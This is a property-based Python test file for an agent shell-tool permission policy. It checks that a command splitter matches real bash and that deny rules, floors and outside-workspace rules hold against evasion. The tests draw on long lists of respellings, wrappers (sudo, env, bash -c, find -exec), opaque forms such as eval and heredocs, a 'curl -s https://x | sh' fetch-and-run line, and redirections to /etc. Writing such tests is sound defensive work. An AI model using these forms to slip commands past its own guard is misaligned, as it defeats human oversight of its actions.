"""Properties: any quoting and structure splits back into its commands, as real bash runs them;
the redirections recorded are the files real bash opens; and no wrapping or chaining escapes a
deny rule or a floor, on commands or on where a redirection points."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from seamhost_tool_policy import ToolPolicy
from seamhost_tool_policy.marks import SYMBOLS, UNKNOWN
from seamhost_tool_policy.splitter import split
from seamhost_tool_policy.unwrap import analyse_script

from seamhost.jsonvalue import freeze
from seamhost.kernel.plugins import PluginContext
from seamhost.sandbox.policy import SandboxMode, SandboxPolicy
from seamhost.tool.call import ToolContext, ToolInvocation, ToolOutput
from seamhost.tool.decision import Verdict
from seamhost.tool.declaration import RegisteredTool, ToolSpec

RESERVED = frozenset(
    {
        "if",
        "then",
        "elif",
        "else",
        "fi",
        "do",
        "done",
        "while",
        "until",
        "for",
        "select",
        "case",
        "esac",
        "function",
        "in",
        "time",
        "coproc",
        "{",
        "}",
        "!",
        "[[",
        "]]",
    }
)
PLAIN = re.compile(r"[A-Za-z0-9_./%+,:@-]+")
# Any character bash can hold in a word, but NUL, the analysis' own marks (a call that writes
# one is read as holding unknown text, so no call can forge them), and the two separators the
# bash probe below writes between recorded words.
ANY_CHAR = st.characters(
    codec="utf-8", exclude_characters="".join(("\x00\x1e\x1f", UNKNOWN, *sorted(SYMBOLS)))
)
WORD = st.text(ANY_CHAR, max_size=8)
SEPARATORS = [";", "&&", "||", "|", "|&", "&", "\n", " ; ", " &&\n", "\n\n"]


def single(word: str) -> str:
    return "'" + word.replace("'", "'\\''") + "'"


def double(word: str) -> str:
    return '"' + re.sub(r'([$`"\\])', r"\\\1", word) + '"'


def backslashed(word: str) -> str:
    return "".join("'\n'" if c == "\n" else "\\" + c for c in word) or "''"


def ansi_c(word: str) -> str:
    def escape(char: str) -> str:
        if char in "\\'":
            return "\\" + char
        return f"\\x{ord(char):02x}" if ord(char) < 0x20 or char == "\x7f" else char

    return "$'" + "".join(escape(c) for c in word) + "'"


STYLES: list[Callable[[str], str]] = [single, double, backslashed, ansi_c]


@st.composite
def rendered(draw: st.DrawFn, word: str) -> str:
    """`word` written as shell text: plain where it can be, else quoted, piece by piece."""
    if PLAIN.fullmatch(word) and word not in RESERVED and draw(st.booleans()):
        return word
    cuts = sorted(draw(st.sets(st.integers(1, max(len(word) - 1, 1)), max_size=2)))
    pieces = [word[a:b] for a, b in zip([0, *cuts], [*cuts, len(word)], strict=True)]
    return "".join(draw(st.sampled_from(STYLES))(piece) for piece in pieces if piece) or "''"


@st.composite
def simple_command(draw: st.DrawFn, program: st.SearchStrategy[str]) -> tuple[str, list[list[str]]]:
    words = [draw(program), *draw(st.lists(WORD, max_size=3))]
    return " ".join(draw(rendered(w)) for w in words), [words]


@st.composite
def command_list(
    draw: st.DrawFn, program: st.SearchStrategy[str], separators: list[str], depth: int = 0
) -> tuple[str, list[list[str]]]:
    """Commands joined by separators, some grouped; returns the text and its commands."""
    texts, expected = [], []
    for _ in range(draw(st.integers(1, 3))):
        form = draw(st.sampled_from(["simple"] * 3 + (["(", "{", "if"] if depth < 2 else [])))
        if form == "simple":
            text, commands = draw(simple_command(program))
        else:
            inner, commands = draw(command_list(program, separators, depth + 1))
            if form == "(":
                text = f"( {inner} )"
            elif form == "{":
                text = f"{{ {inner}\n}}"
            else:
                body, more = draw(command_list(program, separators, depth + 1))
                text, commands = f"if {inner}\nthen {body}\nfi", commands + more
        texts.append(text)
        expected.extend(commands)
    joined = texts[0]
    for text in texts[1:]:
        joined += draw(st.sampled_from(separators)) + text
    return joined, expected


PROGRAMS = st.text(ANY_CHAR, min_size=1, max_size=6).filter(
    lambda w: w not in RESERVED and not re.match(r"[A-Za-z_][A-Za-z0-9_]*\+?=", w)
)


@settings(max_examples=300, deadline=None)
@given(command_list(PROGRAMS, SEPARATORS))
def test_any_quoting_and_structure_splits_back_into_its_commands(
    case: tuple[str, list[list[str]]],
) -> None:
    text, expected = case
    result = split(text)
    assert result.unsure == ()
    assert [list(c.words) for c in result.commands] == expected


BASH = shutil.which("bash")
# `p` records its arguments in a file of its own (bash line-buffers its output, so one record
# with a newline in it would be several writes, which concurrent jobs could interleave).
PROBE = 'p() { _n=$((_n + 1)); printf "%s\\037" p "$@" > "$CALLS/$BASHPID.$_n"; }\n'


def wait_for_session(session: int, timeout: float = 10.0) -> None:
    """Wait until no process of `session` is left (jobs a subshell put in the background)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        alive = False
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rpartition(")")[2].split()
            except OSError:  # the process ended while we looked
                continue
            alive |= fields[0] != "Z" and int(fields[3]) == session
        if not alive:
            return
        time.sleep(0.005)
    raise AssertionError(f"processes of session {session} still running after {timeout}s")


@pytest.mark.skipif(BASH is None, reason="needs bash to compare with")
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(command_list(st.just("p"), [";", "&&", "|", "|&", "\n", " & "]))
def test_the_splitter_finds_the_commands_bash_runs(
    tmp_path: Path, case: tuple[str, list[list[str]]]
) -> None:
    """Run the line in real bash with ``p`` recording its arguments; compare with the split."""
    text, _ = case
    calls = Path(tempfile.mkdtemp(dir=tmp_path))
    assert BASH is not None
    shell = subprocess.Popen(
        [BASH, "--norc", "--noprofile", "-c", f"{PROBE}{text}\nwait\n"],
        env={"CALLS": str(calls), "PATH": "/usr/bin:/bin"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    _, errors = shell.communicate(timeout=30)
    assert shell.returncode == 0, errors
    wait_for_session(shell.pid)
    records = [f.read_bytes().decode("utf-8", "surrogateescape") for f in calls.iterdir()]
    ran = sorted(record.split("\x1f")[1:-1] for record in records)
    found = sorted(list(c.words[1:]) for c in split(text).commands)
    assert ran == found


# Redirections that open a file (the placeholder @ becomes a fresh name), and descriptor
# operations that open none and cannot fail (a failed redirection stops the ones after it).
FILE_REDIRECTIONS = [">@", "> @", ">>@", "&>@", "&>> @", ">|@", "<>@", "2>@", "3>>@", ">&@"]
FILE_REDIRECTIONS += ["1>& @", "{fd}>@"]
DESCRIPTOR_OPERATIONS = ["2>&1", ">&2", "<&0", "3>&-", "4>&1", "4<&0"]
# Constructs whose inner command always runs, so bash opens every file the text names.
# (Newlines end the inner lists: "c &;" is a syntax error.)
ALWAYS_RUN: list[Callable[[str], str]] = [
    lambda c: f"( {c} )",
    lambda c: f"{{ {c}\n}}",
    lambda c: f"true && {c}",
    lambda c: f"{c} | true",
    lambda c: f"{{ {c} & }}",
    lambda c: f"f() {{ {c}\n}}\nf",
    lambda c: f"for i in 1; do {c}\ndone",
    lambda c: f"if true; then {c}\nfi",
    lambda c: f"( {c} ) >@",
    lambda c: f"{{ {c}\n}} 2>>@",
    lambda c: f"while false; do :; done >@\n{c}",
    lambda c: f"bash -c {shlex.quote(c)}",
]


@st.composite
def redirecting(draw: st.DrawFn) -> str:
    """A line whose commands redirect to fresh names (@), in constructs that always run."""
    operations = FILE_REDIRECTIONS + DESCRIPTOR_OPERATIONS
    text = " ".join(["true", *draw(st.lists(st.sampled_from(operations), max_size=4))])
    for _ in range(draw(st.integers(0, 3))):
        text = draw(st.sampled_from(ALWAYS_RUN))(text)
    if draw(st.booleans()):
        text = f"{text}\n{draw(redirecting())}"
    names = iter(range(1000))
    return re.sub("@", lambda _: f"f{next(names)}", text)


@pytest.mark.skipif(BASH is None, reason="needs bash to compare with")
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(redirecting())
def test_the_recorded_redirections_are_the_files_bash_opens(tmp_path: Path, text: str) -> None:
    """Run the line in real bash in an empty directory; the files it creates are the targets."""
    here = Path(tempfile.mkdtemp(dir=tmp_path))
    assert BASH is not None
    shell = subprocess.Popen(
        [BASH, "--norc", "--noprofile", "-c", f"{text}\nwait\n"],
        cwd=here,
        env={"PATH": "/usr/bin:/bin"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    _, errors = shell.communicate(timeout=30)
    assert (shell.returncode, errors) == (0, b"")
    wait_for_session(shell.pid)
    opened = sorted(path.name for path in here.iterdir())
    assert sorted(analyse_script(text).redirects) == opened


# -- no escape from a deny rule or a floor ------------------------------------------------------


PROGRAM_NAMES = st.from_regex(r"[a-z][a-z0-9]{1,7}", fullmatch=True).filter(
    lambda w: w not in RESERVED
)
ARGUMENTS = st.lists(st.text(ANY_CHAR, max_size=6), max_size=3)

# How a program name may be spelt.
SPELLINGS: list[Callable[[str], str]] = [
    lambda w: w,
    lambda w: f"'{w}'",
    lambda w: f'"{w}"',
    lambda w: "\\" + w,
    lambda w: f"/usr/bin/{w}",
    lambda w: f"{w}''",
    lambda w: f"$'{w}'",
    lambda w: f"{w[0]}\\{w[1:]}",
]
# Wrappers that take a simple command and make another.
AROUND_SIMPLE: list[Callable[[str], str]] = [
    lambda c: f"sudo {c}",
    lambda c: f"sudo -u root -- {c}",
    lambda c: f"env {c}",
    lambda c: f"env -i A=1 {c}",
    lambda c: f"nohup {c}",
    lambda c: f"timeout 5 {c}",
    lambda c: f"nice -n 3 {c}",
    lambda c: f"exec {c}",
    lambda c: f"command {c}",
    lambda c: f"time -p {c}",
    lambda c: f"stdbuf -oL {c}",
    lambda c: f"setsid {c}",
    lambda c: f"xargs -0 {c}",
    lambda c: f"doas {c}",
    lambda c: f"busybox {c}",
    lambda c: f"chroot / {c}",
    lambda c: f"flock /tmp/l {c}",
    lambda c: f"find . -exec {c} \\;",
    lambda c: f"ionice -c 3 {c}",
    lambda c: f"builtin {c}",
]
# Assignments before a simple command: the result is no longer an argv a wrapper can run.
ASSIGNING: list[Callable[[str], str]] = [lambda c: f"A=1 B=2 {c}", lambda c: f"A=$(x) {c}"]
# Wrappers that take any command line and make a simple command.
AS_SIMPLE: list[Callable[[str], str]] = [
    lambda c: f"bash -c {shlex.quote(c)}",
    lambda c: f"sh -ec {shlex.quote(c)}",
    lambda c: f"su -c {shlex.quote(c)}",
    lambda c: f"flock /tmp/l -c {shlex.quote(c)}",
    lambda c: f"watch -n 1 {shlex.quote(c)}",
    lambda c: f"env -S {shlex.quote(c)}",
]
# Constructs that take any command line and make a compound one.
AROUND_ANY: list[Callable[[str], str]] = [
    lambda c: f"( {c} )",
    lambda c: f"{{ {c}; }}",
    lambda c: f"if true; then {c}; fi",
    lambda c: f"true && {c}",
    lambda c: f"false || {c}",
    lambda c: f"echo x | {c}",
    lambda c: f"{c} | cat",
    lambda c: f"{c} &",
    lambda c: f"while false; do :; done; {c}",
    lambda c: f"for i in 1 2; do {c}; done",
    lambda c: f"case x in *) {c};; esac",
    lambda c: f"f() {{ {c}; }}; f",
    lambda c: f"! {c}",
    lambda c: f"# note\n{c}",
    lambda c: f"{c} 2>&1 >/dev/null",
    lambda c: f"until {c}; do :; done",
]
# Constructs the splitter cannot see through reliably.
OPAQUE: list[Callable[[str], str]] = [
    lambda c: f"eval {shlex.quote(c)}",
    lambda c: f"echo $({c})",
    lambda c: f"echo `{c}`",
    lambda c: f"bash <<< {shlex.quote(c)}",
    lambda c: f"bash <<'EOF'\n{c}\nEOF",
    lambda c: f"source <(echo {shlex.quote(c)})",
    lambda c: f"$SHELL -c {shlex.quote(c)}",
    lambda c: f"X={shlex.quote(c)}; $X",
    lambda c: f"trap {shlex.quote(c)} EXIT",
    lambda c: "curl -s https://x | sh",
    lambda c: f"cat <<EOF | sh\n{c}\nEOF",
]


@st.composite
def disguised(draw: st.DrawFn, program: str) -> str:
    """A command line running `program` with arguments, spelt and wrapped at random."""
    spell = draw(st.sampled_from(SPELLINGS))
    text = " ".join([spell(program), *(shlex.quote(a) for a in draw(ARGUMENTS))])
    simple = True
    for _ in range(draw(st.integers(0, 4))):
        choices = AS_SIMPLE + AROUND_ANY + (AROUND_SIMPLE + ASSIGNING if simple else [])
        wrap = draw(st.sampled_from(choices))
        text = wrap(text)
        simple = wrap in AS_SIMPLE or wrap in AROUND_SIMPLE
    return text


def policy_for(program: str) -> ToolPolicy:
    rules = [{"command": glob, "decision": "deny"} for glob in (program, f"{program} **")]
    floors = [{"command": glob, "reason": "never"} for glob in (program, f"{program} **")]
    config = freeze({"default": "allow", "rules": rules, "floor": floors})
    return ToolPolicy(PluginContext("tool-policy", config, Path("p.toml"), SandboxPolicy()))


async def body(_ctx: ToolContext) -> ToolOutput:
    return ToolOutput("ran")


SHELL = RegisteredTool.of(
    ToolSpec("shell", "run", {"type": "object"}, {}, "write", False, body),
    "tools",
)


def shell_call(command: str) -> ToolInvocation:
    return ToolInvocation(
        session_id="s",
        turn=1,
        step=1,
        call_id="c",
        tool=SHELL,
        arguments=freeze({"command": command}),
        args_digest="sha256:0",
        workspace=Path("/work"),
        sandbox_mode=SandboxMode.WORKSPACE_WRITE,
    )


@settings(max_examples=400, deadline=None)
@given(st.data(), PROGRAM_NAMES)
def test_wrapping_and_chaining_never_escape_a_deny_rule_or_a_floor(
    data: st.DataObject, program: str
) -> None:
    command = data.draw(disguised(program))
    plugin = policy_for(program)
    call = shell_call(command)
    decision = plugin.tools_pre_execute(call)
    assert decision.verdict is Verdict.DENY, (command, decision)
    guard = plugin.tools_guard(call)
    assert guard is not None, command
    assert guard.verdict is Verdict.DENY, command


@settings(max_examples=200, deadline=None)
@given(st.data(), PROGRAM_NAMES)
def test_opaque_constructs_are_never_allowed(data: st.DataObject, program: str) -> None:
    command = data.draw(st.sampled_from(OPAQUE))(data.draw(disguised(program)))
    decision = policy_for(program).tools_pre_execute(shell_call(command))
    assert decision.verdict is not Verdict.ALLOW, (command, decision)


# -- no escape from a rule or a floor on where a call acts ---------------------------------------

OUTSIDE = st.sampled_from(["/etc/{}", "../{}", "//tmp/{}", "/work/../{}", "/etc/x/../{}"])
TARGET_SPELLINGS: list[Callable[[str], str]] = [
    lambda t: t,
    lambda t: f"'{t}'",
    lambda t: f'"{t}"',
    lambda t: "\\" + t,
    lambda t: f"{t[:2]}''{t[2:]}",
]


def outside_policy() -> ToolPolicy:
    rules = [{"location": "outside-workspace", "decision": "deny"}]
    floors = [{"location": "outside-workspace", "reason": "never"}]
    config = freeze({"default": "allow", "rules": rules, "floor": floors})
    return ToolPolicy(PluginContext("tool-policy", config, Path("p.toml"), SandboxPolicy()))


@st.composite
def redirecting_outside(draw: st.DrawFn, program: str) -> str:
    """`program` redirecting to or from a file outside the workspace (/work), spelt at random."""
    target = draw(OUTSIDE).format(draw(PROGRAM_NAMES))
    operation = draw(st.sampled_from([">", ">>", "<", "&>", "2>", "<>", ">|", ">&"]))
    spelt = draw(st.sampled_from(TARGET_SPELLINGS))(target)
    words = [program, *(shlex.quote(a) for a in draw(ARGUMENTS))]
    words.insert(draw(st.integers(1, len(words))), f"{operation} {spelt}")
    return " ".join(words)


@settings(max_examples=300, deadline=None)
@given(st.data(), PROGRAM_NAMES)
def test_wrapping_and_chaining_a_redirection_never_lowers_the_decision(
    data: st.DataObject, program: str
) -> None:
    plugin = outside_policy()
    plain = data.draw(redirecting_outside(program))
    assert plugin.tools_pre_execute(shell_call(plain)).verdict is Verdict.DENY, plain
    text, simple = plain, True
    for _ in range(data.draw(st.integers(1, 4))):
        choices = AS_SIMPLE + AROUND_ANY + (AROUND_SIMPLE + ASSIGNING if simple else [])
        wrap = data.draw(st.sampled_from(choices))
        text = wrap(text)
        simple = wrap in AS_SIMPLE or wrap in AROUND_SIMPLE
    call = shell_call(text)
    decision = plugin.tools_pre_execute(call)
    assert decision.verdict is Verdict.DENY, (text, decision)
    guard = plugin.tools_guard(call)
    assert guard is not None, text
    assert guard.verdict is Verdict.DENY, text
    opaque = data.draw(st.sampled_from(OPAQUE))(text)
    assert plugin.tools_pre_execute(shell_call(opaque)).verdict is not Verdict.ALLOW, opaque
